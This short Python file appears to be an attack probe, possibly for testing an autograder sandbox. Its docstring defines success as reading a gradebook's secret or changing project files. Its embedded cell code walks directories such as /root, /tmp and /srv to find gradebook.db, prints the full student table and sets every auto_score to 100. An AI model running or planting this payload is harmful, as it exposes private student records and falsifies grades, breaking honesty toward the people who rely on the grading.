"""Open the gradebook and change it. Success: its secret is printed, or the file of the project has changed."""

CELL = '''
import glob
import os
import sqlite3

for up in (".", "..", "../..", "../../..", "/", "/opt", "/work", "/work/main", "/root", "/tmp", "/srv"):
    for path in glob.glob(os.path.join(up, "**", "gradebook.db"), recursive=up not in ("/", ".", "/opt")):
        book = sqlite3.connect(path)
        print(book.execute("select * from student").fetchall())
        book.execute("update grade set auto_score = 100")
        book.commit()
'''
